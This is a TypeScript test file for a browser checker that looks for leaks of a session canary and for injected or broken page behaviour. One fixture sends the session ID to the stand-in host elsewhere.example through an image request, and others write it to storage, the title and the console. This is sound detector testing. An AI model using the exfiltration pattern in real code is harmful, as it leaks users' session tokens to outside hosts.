// @vitest-environment node
import { expect, test } from 'vitest'
import { scenarioUrl } from '../sandbox/scenarios.ts'
import { canary, findAll, problemsOf, shareTabs } from './browser/tabs.ts'

const { withTab } = shareTabs()

/** Does something to a page that is as it should be, and answers what the check says of it. */
function findingsOf(spoil: (session: string) => void): Promise<string> {
  return withTab(async tab => {
    await tab.page.goto(scenarioUrl('order-due', { sessionId: `due.${canary}` }))
    expect(problemsOf(tab, await findAll(tab))).toEqual([])
    await tab.page.evaluate(spoil, `due.${canary}`)
    // The requests are reported a moment later.
    await tab.page.waitForTimeout(300)
    return problemsOf(tab, await findAll(tab)).join('\n')
  })
}

const leaks: [string, (session: string) => void][] = [
  [
    'a request to another origin',
    session => {
      new Image().src = `https://elsewhere.example/${session}.png`
    }
  ],
  ['the console', session => console.log(session)],
  [
    'the title',
    session => {
      document.title = session
    }
  ],
  ['a storage', session => localStorage.setItem('loan:left', session)],
  [
    'a storage',
    session =>
      new Promise<void>(resolve => {
        const opening = indexedDB.open('loan', 1)
        opening.onupgradeneeded = () => opening.result.createObjectStore('records')
        opening.onsuccess = () => {
          const turn = opening.result.transaction('records', 'readwrite')
          turn.objectStore('records').put(session, 'left')
          turn.oncomplete = () => {
            opening.result.close()
            resolve()
          }
        }
      })
  ],
  ['the referrer', session => Object.defineProperty(document, 'referrer', { get: () => session })]
]

test.each(leaks)('the canary is found in %s', async (place, leak) => {
  expect(await findingsOf(leak)).toContain(`${place} has it`)
})

test('a page that throws, breaks its policy or says so on the console is found', async () => {
  const found = await findingsOf(() => {
    setTimeout(() => {
      throw new Error('thrown')
    })
    void Promise.reject(new Error('rejected'))
    const style = document.createElement('style')
    style.textContent = 'p { color: red }'
    document.head.append(style)
    console.error('said')
  })
  expect(found).toMatch(/uncaught: .*thrown/)
  expect(found).toMatch(/rejection: .*rejected/)
  expect(found).toMatch(/policy: style-src/)
  expect(found).toMatch(/error: said/)
})

test('a page that goes blank, or takes markup for text, is found', async () => {
  const found = await findingsOf(() => {
    const element = document.createElement('b')
    element.className = 'pwned'
    document.body.append(element)
    Object.assign(window, { pwned: 1 })
    // All of it: React would mend a part, or say that it cannot.
    document.getElementById('root')?.remove()
  })
  expect(found).toMatch(/ends blank[\s\S]*hostile code has run[\s\S]*there is a B/)
})
